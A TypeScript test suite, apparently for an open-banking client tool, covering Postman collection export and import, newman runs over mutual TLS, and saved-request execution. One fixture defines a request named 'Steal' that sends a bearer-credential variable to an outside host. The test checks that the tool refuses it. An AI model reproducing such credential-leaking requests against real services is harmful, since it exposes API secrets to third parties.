/** What Postman gets and gives: the exported journey run by newman over mutual TLS, and everything brought back by an import. */
import { readdir, readFile, stat, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { accountFlow } from '../../src/standard/account-flow.ts';
import { authoriseHeadless } from '../../src/tpp/authorization/authorise.ts';
import { createConsent } from '../../src/tpp/consents/consent.ts';
import { signJwt } from '../../src/tpp/jwt/sign.ts';
import { exportPostman } from '../../src/tpp/postman/export.ts';
import { runSavedRequest } from '../../src/tpp/postman/run.ts';
import { findSavedRequest } from '../../src/tpp/postman/saved-request.ts';
import { prepareRegistration, register, signRegistration } from '../../src/tpp/registration/register.ts';
import { openSession, type Session } from '../../src/tpp/session.ts';
import type { ExchangeRecord } from '../../src/tpp/transport/exchange.ts';
import { fileSecretStore } from '../../src/tpp/workspace/secret-files.ts';
import { clientSecretName } from '../../src/tpp/workspace/secrets.ts';
import { fileStateStore } from '../../src/tpp/workspace/state-file.ts';
import { openWorkspace } from '../../src/tpp/workspace/workspace.ts';
import { type NewmanRun, runNewman } from '../support/newman.ts';
import { startTestBank, type TestBank } from './support/bank.ts';
import { errorOf, run as obw, resultOf } from './support/command.ts';
import { authorise } from './support/customer.ts';

// A test here is up to three processes of newman, one after the other.
vi.setConfig({ testTimeout: 300_000 });

let bank: TestBank;
beforeAll(async () => {
  bank = await startTestBank({ transactions: 600, severalClients: true, bulkTransactions: true });
});
afterAll(() => bank.stop());

/** A session on a workspace of its own at the bank; `exchanges` gets what went over the wire. */
async function open(folder: string, exchanges: ExchangeRecord[] = []): Promise<Session> {
  const workspace = await openWorkspace(folder);
  const onExchange = (record: ExchangeRecord) => exchanges.push(record);
  return openSession({ workspace, state: fileStateStore(folder), secrets: fileSecretStore(folder, {}), onExchange });
}

/** A client of its own, and newman on what is exported for it. */
const tools = { claims: 'print the claims', sign: (bank: string) => `sign at ${bank}` };

async function clientAt(authMethod: string, requestObjectAlgorithm = 'none', version = '3.1') {
  const { folder } = await bank.tpp();
  const file = join(folder, 'openbanking.json');
  await writeFile(file, (await readFile(file, 'utf8')).replaceAll('v3.1', `v${version}`));
  const session = await open(folder);
  const { clientId } = await register(session, { authMethod, requestObjectAlgorithm });
  const secret = await session.secrets.get(clientSecretName('sandbox', clientId));
  const files = await exportPostman(session, { tools });
  const [environment, collection, certificates] = files.map(({ text }): unknown => JSON.parse(text));
  const ca = await readFile(join(folder, 'ca.pem'), 'utf8');
  let latest = environment;
  /** Each run begins with the environment that the one before has left, as Postman's own would. */
  const newman = async (variables: Record<string, string> = {}, folders: string[] = []): Promise<NewmanRun> => {
    const given = { ...variables, ...(secret !== undefined && { clientSecret: secret }) };
    const options = { collection, environment: latest, certificates, ca, variables: given, folders };
    const ran = await runNewman({ ...options, workingFolder: folder });
    const values = Object.entries(ran.environment).map(([key, value]) => ({ key, value, enabled: true }));
    latest = { name: 'after', values };
    return ran;
  };
  return { folder, session, clientId, secret: secret ?? '', newman };
}

const sent = ({ requests }: NewmanRun) => requests.filter(([, status]) => status !== undefined);
const allGood = (names: readonly string[]) => names.map((name) => [name, 200]);
const begin = ['2 Consent', '3 Authorisation'];
const data = ['4 Account information'];
const end = ['5 Renewal', '6 End'];
const last = [
  'Exchange the code',
  'Account access consent',
  ...accountFlow.flatMap(({ name }) =>
    name === 'Transactions of the account' ? [name, 'Next page of transactions'] : [name],
  ),
];
const ended: [string, number][] = [
  ['Renew the token', 200],
  ['Accounts with the renewed token', 200],
  ['Delete the consent', 204],
];

/** The code that the customer's browser carries away from an authorisation URL. */
async function codeFrom(url: unknown): Promise<string> {
  return new URLSearchParams(new URL(await authorise(String(url), { user: 'rora' })).hash.slice(1)).get('code') ?? '';
}

describe('the exported journey', () => {
  it.each([
    ['tls_client_auth', '3.1'],
    ['client_secret_basic', '4.0'],
  ])('is run green by newman with %s, in one go, through all of account information %s', async (method, version) => {
    const { session, newman } = await clientAt(method, 'none', version);
    const ran = await newman();
    expect(ran.failures).toEqual([]);
    expect(ran.assertions).toBeGreaterThan(1.5 * sent(ran).length);
    expect(sent(ran)).toEqual([
      ['Client-credentials token', 200],
      ['Create an account access consent', 201],
      ...allGood(['Begin the authorisation', 'Log the customer in', 'Share the accounts', ...last]),
      ...ended,
    ]);
    expect(String(ran.environment.aisp)).toContain(`/v${version}/aisp`);
    for (const dead of ['account-access-consent-id', 'refresh-token-from-auth-code-grant-accounts'])
      expect(ran.environment).not.toHaveProperty(dead);
    await session.close();
  });

  it('is run in two halves, the customer in a browser between them', async () => {
    const { session, newman } = await clientAt('tls_client_auth');
    const first = await newman({ loginName: '' }, begin);
    expect(first.failures).toEqual([]);
    const second = await newman({ authorizationCode: await codeFrom(first.environment.authCodeUrl) }, data);
    expect(second.failures).toEqual([]);
    expect(sent(second)).toEqual(allGood(last));
    await session.close();
  });

  it('is run with assertions and a request object that were signed outside', async () => {
    const { session, clientId, newman } = await clientAt('private_key_jwt', 'PS256');
    const key = await session.workspace.signingKey(session.bank);
    const { issuer } = await session.metadata();
    const now = Math.floor(Date.now() / 1000);
    const us = { iss: clientId, sub: clientId, aud: issuer };
    const assertion = () => signJwt({ ...us, jti: crypto.randomUUID(), iat: now, exp: now + 300 }, key);
    const first = await newman({ clientAssertion: await assertion() }, ['2 Consent']);
    expect(first.failures).toEqual([]);
    const value = first.environment['account-access-consent-id'];
    const request = {
      ...{ iss: clientId, aud: issuer, client_id: clientId, response_type: 'code id_token', scope: 'openid accounts' },
      ...{ redirect_uri: first.environment.redirectUrl, state: 's', nonce: 'n', nbf: now - 10, exp: now + 300 },
      claims: { id_token: { openbanking_intent_id: { value, essential: true } } },
    };
    const second = await newman({ requestObject: await signJwt(request, key), loginName: '' }, ['3 Authorisation']);
    expect(second.failures).toEqual([]);
    const code = await codeFrom(second.environment.authCodeUrl);
    const third = await newman({ clientAssertion: await assertion(), authorizationCode: code }, data);
    expect(third.failures).toEqual([]);
    expect(sent(third)).toEqual(allGood(last));
    // The assertion was good for one token; without another the token is not renewed.
    const fourth = await newman({}, ['5 Renewal']);
    expect(fourth.failures).toEqual([]);
    expect(sent(fourth)).toEqual([ended[1]]);
    const fifth = await newman({ clientAssertion: await assertion() }, end);
    expect(fifth.failures).toEqual([]);
    expect(sent(fifth)).toEqual(ended);
    await session.close();
  });

  it('registers a client with a JWT that was signed outside, and goes on as that one', async () => {
    const { session, clientId, newman } = await clientAt('tls_client_auth');
    const prepared = await prepareRegistration(session, { authMethod: 'tls_client_auth' });
    const signedDcrJwt = await signRegistration(session, prepared);
    const ran = await newman({ signedDcrJwt }, ['1 Registration', '2 Consent']);
    expect(ran.failures).toEqual([]);
    expect(sent(ran)[0]).toEqual(['Register a client', 201]);
    expect(ran.environment.oidcClient).not.toBe(clientId);
    await session.close();
  });

  it('says at its top which requests need a signature, for a client that must sign and for one that need not', async () => {
    const topOf = async (session: Session): Promise<string> => {
      const [, collection] = await exportPostman(session, { tools });
      return JSON.parse(collection?.text ?? '{}').info.description;
    };
    const signing = await clientAt('private_key_jwt', 'PS256');
    const top = await topOf(signing.session);
    expect(top).toContain('sign at sandbox "{');
    for (const name of ['signedDcrJwt', 'clientAssertion', 'requestObject', signing.clientId])
      expect(top).toContain(name);
    const plain = await clientAt('tls_client_auth');
    expect(await topOf(plain.session)).not.toContain('clientAssertion');
    expect(await topOf(plain.session)).toContain('No other request needs one');
    await Promise.all([signing.session.close(), plain.session.close()]);
  });

  it('says what is missing where no customer has authorised', async () => {
    const { session, newman } = await clientAt('tls_client_auth');
    expect((await newman({}, data)).failures[0]).toContain('The customer has not authorised yet');
    await session.close();
  });
});

describe('obw', () => {
  it('exports without the secret and imports the same bank, and with the secret the same client', async () => {
    const { folder, session, clientId, secret } = await clientAt('client_secret_basic');
    const { files } = await resultOf(['export', 'postman', '--out', 'plain'], { folder });
    expect(files).toHaveLength(3);
    const plain = await Promise.all(files.map((file: string) => readFile(file, 'utf8')));
    expect(plain.join()).not.toContain(secret);
    expect(await errorOf(['export', 'postman', '--out', 'plain'], { folder })).toMatchObject({ code: 'files_exist' });
    await resultOf(['export', 'postman', '--out', 'fewer', '--permissions', 'ReadAccountsBasic,ReadOffers'], {
      folder,
    });
    const fewer = await readFile(join(folder, 'fewer', 'sandbox.postman_collection.json'), 'utf8');
    expect(fewer).toContain('{{aisp}}/offers');
    expect(fewer).not.toContain('{{aisp}}/balances');
    const refused = await errorOf(['export', 'postman', '--out', 'none', '--permissions', 'ReadOffers'], { folder });
    expect(refused).toMatchObject({ code: 'permissions_invalid' });
    await resultOf(['export', 'postman', '--out', 'full', '--secrets'], { folder });
    const full = join(folder, 'full', 'sandbox.postman_environment.json');
    expect(await readFile(full, 'utf8')).toContain(secret);
    expect((await stat(full)).mode & 0o777).toBe(0o600);

    const other = (await bank.tpp()).folder;
    const before = JSON.parse(await readFile(join(folder, 'openbanking.json'), 'utf8'));
    const file = join(other, 'openbanking.json');
    await writeFile(file, JSON.stringify({ ...JSON.parse(await readFile(file, 'utf8')), banks: {} }));
    const ended = await obw(['import', 'postman', full, '--json'], { folder: other });
    expect(ended).toMatchObject({ status: 0, stderr: '' });
    expect(ended.stdout).not.toContain(secret);
    expect(JSON.parse(ended.stdout)).toMatchObject({
      applied: true,
      banks: [{ name: 'sandbox', entry: before.banks.sandbox, client: { clientId } }],
    });
    expect(JSON.parse(await readFile(file, 'utf8')).banks).toEqual(before.banks);
    const again = await open(other);
    expect((await again.state.read()).clients).toMatchObject([
      { bank: 'sandbox', clientId, tokenEndpointAuthMethod: 'client_secret_basic' },
    ]);
    expect(await again.secrets.get(clientSecretName('sandbox', clientId))).toBe(secret);
    await again.close();
    await session.close();
  });

  it('imports the environment that the bank gives and the collection beside it, whose requests then run', async () => {
    const { folder, session, secret } = await clientAt('client_secret_basic');
    await resultOf(['environment', 'download', '--out', 'bank.json'], { folder });
    const collection = {
      info: { name: 'Ozone', schema: 'https://schema.getpostman.com/json/collection/v2.0.0/collection.json' },
      variable: [{ key: 'base', value: '{{resourceServer}}/aisp' }],
      item: [
        {
          name: 'Accounts',
          item: [
            {
              name: 'Get accounts',
              request: {
                method: 'GET',
                url: '{{base}}/accounts',
                header:
                  'Authorization: Bearer {{token-from-auth-code-grant-accounts}}\nx-fapi-interaction-id: {{interactionId}}',
              },
            },
            { name: 'Steal', request: { method: 'GET', url: 'https://127.0.0.1:9/?{{basicToken}}' } },
            { name: 'Unknown', request: { method: 'GET', url: '{{rs}}/{{nobody}}/{{knows}}' } },
          ],
        },
      ],
    };
    await writeFile(join(folder, 'ozone.json'), JSON.stringify(collection));
    const imported = await resultOf(['import', 'postman', 'bank.json', 'ozone.json'], { folder });
    expect(imported).toMatchObject({ banks: [{ name: 'sandbox', known: true }], files: ['requests/ozone.json'] });
    expect(await readdir(join(folder, 'requests'))).toEqual(['ozone.json']);

    const { consentId } = await createConsent(session);
    await authoriseHeadless(session, consentId, { user: 'rora' });
    const exchanges: ExchangeRecord[] = [];
    const fresh = await open(folder, exchanges);
    const saved = async (name: string) => {
      const { collection: of, request } = await findSavedRequest(folder, name);
      return runSavedRequest(fresh, request, {}, { collection: of });
    };
    const answer = await saved('Accounts/Get accounts');
    expect(answer.status, answer.body).toBe(200);
    expect(JSON.parse(answer.body).Data.Account.length).toBeGreaterThan(0);
    expect(exchanges.at(-1)).toMatchObject({
      purpose: 'saved request: Get accounts',
      clientCertificate: { offered: true },
    });
    expect(JSON.stringify(exchanges)).not.toContain(secret);

    const before = exchanges.length;
    await expect(saved('Steal')).rejects.toMatchObject({ code: 'secret_for_stranger' });
    await expect(saved('Unknown')).rejects.toMatchObject({
      code: 'variable_unresolved',
      message: expect.stringContaining('nobody, knows'),
    });
    expect(exchanges).toHaveLength(before);
    await fresh.close();
    await session.close();

    const { requests } = await resultOf(['request', 'list'], { folder });
    expect(requests[0]).toEqual({ path: 'ozone/Accounts/Get accounts', method: 'GET', url: '{{base}}/accounts' });
    const shown = await resultOf(['request', 'run', 'Get accounts', '--set', `interactionId=${crypto.randomUUID()}`], {
      folder,
    });
    expect(shown).toMatchObject({ status: 200, body: answer.body });
    const refused = await errorOf(['request', 'run', 'Steal'], { folder });
    expect(refused).toMatchObject({ code: 'secret_for_stranger' });
  });

  it('takes a data dump apart, and runs each of two requests of one name without what is switched off', async () => {
    const { folder, session } = await clientAt('client_secret_basic');
    await resultOf(['environment', 'download', '--out', 'bank.json'], { folder });
    const { values } = JSON.parse(await readFile(join(folder, 'bank.json'), 'utf8'));
    const known = { name: 'same', method: 'GET', url: '{{configEndpoint}}?x=1&y=2' };
    const queryParams = [
      { key: 'x', value: '1', enabled: false },
      { key: 'y', value: '2', enabled: true },
    ];
    const requests = [
      { ...known, id: '1', url: '{{configEndpoint}}-nowhere' },
      { ...known, id: '2', queryParams },
    ];
    const dump = {
      version: 1,
      collections: [{ id: 'c', name: 'Old', order: ['1', '2'], requests }],
      environments: [{ name: 'Bank', values }],
      headerPresets: [],
      globals: [],
    };
    await writeFile(join(folder, 'dump.json'), JSON.stringify(dump));
    const imported = await resultOf(['import', 'postman', 'dump.json'], { folder });
    expect(imported).toMatchObject({ banks: [{ name: 'sandbox', known: true }], files: ['requests/old.json'] });
    const listed = await resultOf(['request', 'list'], { folder });
    expect(listed.requests).toMatchObject([
      { path: 'old/same' },
      { path: 'old/same (2)', url: '{{configEndpoint}}?y=2' },
    ]);
    expect(await resultOf(['request', 'run', 'old/same (2)'], { folder })).toMatchObject({ status: 200 });
    const other = await obw(['request', 'run', 'old/same', '--json'], { folder });
    expect(JSON.parse(other.stdout)).toMatchObject({ status: 404 });
    expect(await errorOf(['request', 'run', 'same'], { folder })).toMatchObject({
      code: 'saved_request_unknown',
      try: expect.stringContaining('old/same, old/same (2)'),
    });
    await session.close();
  });
});
